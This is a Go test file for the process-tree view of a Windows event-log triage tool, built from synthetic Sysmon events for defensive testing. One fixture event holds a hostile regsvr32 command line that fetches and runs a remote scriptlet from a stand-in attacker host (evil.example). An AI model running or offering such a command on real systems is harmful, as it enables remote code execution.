package tui

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/charmbracelet/x/ansi"

	"github.com/evtriage/evtriage/internal/golden"
	"github.com/evtriage/evtriage/parser"
	"github.com/evtriage/evtriage/rules"
	"github.com/evtriage/evtriage/samples"
	"github.com/evtriage/evtriage/triage"
)

// sysmonEvent is one Sysmon event of the test logs.
func sysmonEvent(host string, rec uint64, sec int, id uint16, kv ...string) *parser.Event {
	ev := &parser.Event{RecordID: rec, Time: t0.Add(time.Duration(sec) * time.Second), Provider: "Microsoft-Windows-Sysmon",
		Channel: sysmonCh, Computer: host, EventID: id}
	for i := 0; i+1 < len(kv); i += 2 {
		ev.Fields = append(ev.Fields, parser.Field{Name: kv[i], Value: kv[i+1]})
	}
	return ev
}

func testGUID(n int) string { return fmt.Sprintf("{365ABB72-0000-0000-0000-%012X}", n) }

// huntLog writes evs as a log and hunts it with the built-in rules, as
// the screen does.
func huntLog(t testing.TB, evs []*parser.Event) *triage.Result {
	t.Helper()
	data := writeEvents(t, filepath.Join(t.TempDir(), "groups.evtx"), evs)
	h := triage.NewHunter(triage.Options{Rules: rules.Load(rules.LoadOptions{})})
	if err := h.AddReader(context.Background(), "evidence/groups.evtx", bytes.NewReader(data), int64(len(data)), nil); err != nil {
		t.Fatal(err)
	}
	return h.Finish()
}

// detailText is the detail pane's whole content as plain words, however
// it is wrapped and scrolled.
func detailText(m Model) string {
	return strings.Join(strings.Fields(ansi.Strip(strings.Join(m.detail.lines, "\n"))), " ")
}

// groupsLog is two hosts: on WS1 a regsvr32 whose parent the log names
// with neither image ("-") nor a known process, three processes known only
// from their image loads, and a stub known from its own network
// connection; on WS2 one ordinary process.
func groupsLog() []*parser.Event {
	const reg = `C:\Windows\System32\regsvr32.exe`
	var evs []*parser.Event
	evs = append(evs, sysmonEvent("WS1", 1, 0, 1, "ProcessGuid", testGUID(2), "ProcessId", "2000", "Image", reg,
		"CommandLine", `regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll`, "User", `WS1\bob`,
		"ParentProcessGuid", testGUID(1), "ParentProcessId", "0", "ParentImage", "-", "ParentCommandLine", "-"))
	for i := range 3 {
		evs = append(evs, sysmonEvent("WS1", uint64(10+i), 10+i, 7, "ProcessGuid", testGUID(100+i), "ProcessId", fmt.Sprint(700+i),
			"Image", `C:\Windows\System32\svchost.exe`, "ImageLoaded", `C:\Windows\System32\x.dll`, "Signed", "true"))
	}
	evs = append(evs, sysmonEvent("WS2", 20, 20, 1, "ProcessGuid", testGUID(3), "ProcessId", "3000",
		"Image", `C:\Windows\System32\notepad.exe`, "CommandLine", "notepad", "ParentProcessGuid", testGUID(4),
		"ParentProcessId", "400", "ParentImage", `C:\Windows\explorer.exe`, "ParentCommandLine", "explorer"))
	return evs
}

// TestTreeGroups: a host's processes known only from their activity and
// its stubs without image or PID are one row each, expanded on demand;
// jumps and ← go in and out of them, and the detail says what they are.
func TestTreeGroups(t *testing.T) {
	r := huntLog(t, groupsLog())
	if r.ActivityOnly != 3 {
		t.Fatalf("%d activity-only processes, want 3", r.ActivityOnly)
	}
	tests := []struct {
		name   string
		w, h   int
		keys   []string
		golden string
		check  func(t *testing.T, m Model)
	}{
		{"closed", 120, 40, []string{"2"}, "tree_groups", func(t *testing.T, m Model) {
			if m.tree.Len() != 3 {
				t.Errorf("%d rows, want the two groups of WS1 and the root of WS2", m.tree.Len())
			}
		}},
		{"activity listed", 80, 24, []string{"2", "j", "right", "j"}, "tree_groups_activity_80x24", func(t *testing.T, m Model) {
			p := m.tree.Selected()
			if p == nil || p.PID != 700 || !p.Stub || p.Seen.Total() != 1 {
				t.Fatalf("selected %+v, want the first activity-only process", p)
			}
			if !strings.Contains(detailText(m), "known from its own activity (1 event)") {
				t.Errorf("the detail does not say where the process is known from:\n%s", detailText(m))
			}
			if m.tree.Selected() != p {
				t.Error("a member is made anew each time it is asked for")
			}
		}},
		{"left goes to the group", 120, 40, []string{"2", "j", "right", "j", "j", "left"}, "", func(t *testing.T, m Model) {
			if g := m.tree.SelectedGroup(); g == nil || g.kind != groupActivity {
				t.Errorf("selected %v, want the activity group", g)
			}
		}},
		{"finding under a stub group", 120, 40, []string{"2", "f"}, "tree_groups_stub_open", func(t *testing.T, m Model) {
			p := m.tree.Selected()
			if p == nil || p.PID != 2000 {
				t.Fatalf("f selected %+v, want regsvr32 under the stub group", p)
			}
		}},
		{"stub origin", 120, 40, []string{"2", "f", "left"}, "", func(t *testing.T, m Model) {
			if p := m.tree.Selected(); p == nil || !p.Stub || !strings.Contains(detailText(m), "known from the parent fields of 1 child (ParentProcessGuid)") {
				t.Errorf("the stub's origin is not told:\n%s", detailText(m))
			}
		}},
		{"collapse all", 120, 40, []string{"2", "f", "z"}, "", func(t *testing.T, m Model) {
			if g := m.tree.SelectedGroup(); g == nil || g.kind != groupStubs || m.tree.Len() != 3 {
				t.Errorf("after z: group %v, %d rows", g, m.tree.Len())
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m := loaded(t, r, tt.w, tt.h)
			m, _ = drive(t, m, press(tt.keys...)...)
			tt.check(t, m)
			if tt.golden != "" {
				golden.Assert(t, "screen_"+tt.golden+".txt", []byte(screen(m)))
			}
		})
	}
}

// huntGenerated hunts a generated log of opts with the built-in rules.
func huntGenerated(t testing.TB, opts samples.Options) *triage.Result {
	t.Helper()
	path := filepath.Join(t.TempDir(), "gen.evtx")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := samples.Generate(f, opts); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	h := triage.NewHunter(triage.Options{Rules: rules.Load(rules.LoadOptions{})})
	if err := h.AddFile(context.Background(), path, nil); err != nil {
		t.Fatal(err)
	}
	return h.Finish()
}

// TestEveryProcessReachable: a user who expands every row of the tree
// (* on each, top to bottom) reaches every process of the hunt once:
// those of the tree, the stubs under their host's group row and the
// processes known only from their activity under their host's summary
// row, which are not tree nodes.
func TestEveryProcessReachable(t *testing.T) {
	tests := []struct {
		name     string
		r        *triage.Result
		activity bool // the log has activity-only processes
	}{
		{"groups", huntLog(t, groupsLog()), true},
		{"activity-only, 2 hosts", huntGenerated(t, samples.Options{Profile: samples.ProfileSysmonActivity, Hosts: 2, Events: 1500, Seed: 3}), true},
		{"dense", huntGenerated(t, samples.Options{Profile: samples.ProfileSysmonDense, Events: 800, Seed: 5}), false},
		{"default forms, 5 hosts", huntGenerated(t, samples.Options{Events: 300, Seed: 7}), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := tt.r
			want := make(map[processKey]int)
			for _, p := range r.Processes {
				want[procKey(p)]++
			}
			for _, h := range r.ActivityOnlyHosts() {
				for _, p := range r.ActivityOnlyProcesses(h.Host) {
					want[procKey(p)]++
				}
			}
			if len(want) != r.ProcessCount() {
				t.Fatalf("%d distinct processes, want %d", len(want), r.ProcessCount())
			}
			if tt.activity && len(r.ActivityOnlyHosts()) == 0 {
				t.Fatal("the log has no activity-only processes")
			}
			m := loaded(t, r, 120, 40)
			m, _ = drive(t, m, press("2")...)
			got := make(map[processKey]int)
			for i := 0; i < m.tree.Len(); i++ {
				if m.tree.cursor != i {
					t.Fatalf("cursor on row %d, want %d", m.tree.cursor, i)
				}
				m, _ = drive(t, m, press("*")...)
				if p := m.tree.Selected(); p != nil {
					got[procKey(p)]++
				} else if m.tree.SelectedGroup() == nil {
					t.Fatalf("row %d is neither a process nor a group", i)
				}
				m, _ = drive(t, m, press("j")...)
			}
			for k, n := range want {
				if got[k] != n {
					t.Errorf("process %+v reached %d times, want %d", k, got[k], n)
				}
			}
			if len(got) != len(want) {
				t.Errorf("%d processes reached, want %d", len(got), len(want))
			}
		})
	}
}
